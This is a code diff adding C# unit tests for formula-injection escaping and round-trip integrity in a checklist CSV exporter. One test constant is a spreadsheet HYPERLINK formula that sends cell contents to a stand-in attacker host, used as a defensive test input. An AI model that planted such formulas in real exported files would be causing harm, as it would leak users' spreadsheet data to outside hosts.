@@ -79,6 +79,54 @@ public class ChecklistSheetTests
         Assert.That(updates.Single(u => u.Code == "INF-02").Note, Is.EqualTo("Waiting for \"quota\",\nthen the rest."), "line breaks in a cell come back as LF");
     }
 
+    private const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+
+    /// <summary>Every cell of a CSV text, read back by a plain reader as a spreadsheet would see it.</summary>
+    private static List<string> Cells(string csv)
+    {
+        using var reader = new CsvHelper.CsvReader(new StringReader(csv), System.Globalization.CultureInfo.InvariantCulture);
+        var cells = new List<string>();
+        while (reader.Read())
+            for (var i = 0; i < reader.Parser.Count; i++) cells.Add(reader.GetField(i)!);
+        return cells;
+    }
+
+    [TestCase(Formula)]
+    [TestCase("=1+1")]
+    [TestCase("+1")]
+    [TestCase("-1")]
+    [TestCase("@SUM(A1:A9)")]
+    [TestCase("\t=1+1")]
+    [TestCase("\r=1+1")]
+    public void A_cell_a_spreadsheet_would_take_for_a_formula_is_exported_as_text(string note)
+    {
+        var items = Items();
+        items[0].Note = note;
+        items[1].Owner = note;
+        var cells = Cells(ChecklistSheet.Csv(Lines(items)));
+        Assert.That(cells, Has.Member("'" + note), "escaped with a leading apostrophe");
+        Assert.That(cells.Where(c => c.Length > 0 && "=+-@\t\r".Contains(c[0], StringComparison.Ordinal)), Is.Empty, "no cell starts a formula");
+    }
+
+    [TestCase(Formula)]
+    [TestCase("-x")]
+    [TestCase("'=x")]
+    [TestCase("''=x")]
+    [TestCase("'plain")]
+    [TestCase("'")]
+    [TestCase("+49 30 1234")]
+    [TestCase("@team, see =A1")]
+    public void A_note_or_owner_survives_export_and_import_unchanged_however_it_starts(string text)
+    {
+        var items = Items();
+        items[0].Note = text;
+        items[0].Owner = text;
+        var (updates, errors) = Import(ChecklistSheet.Csv(Lines(items)));
+        Assert.That(errors, Is.Empty);
+        var update = updates.Single(u => u.Code == items[0].RequirementCode);
+        Assert.That((update.Note, update.Owner), Is.EqualTo((text, text)));
+    }
+
     private const string Header = "code,title,statement,layer,priority,status,owner,note,evidence,hint\n";
 
     [TestCase("INF-01,t,s,infra,must,done,,,,met\nXYZ-99,t,s,infra,must,done,,,,met\n", "checklist.csv:3:1: unknown requirement code 'XYZ-99'")]
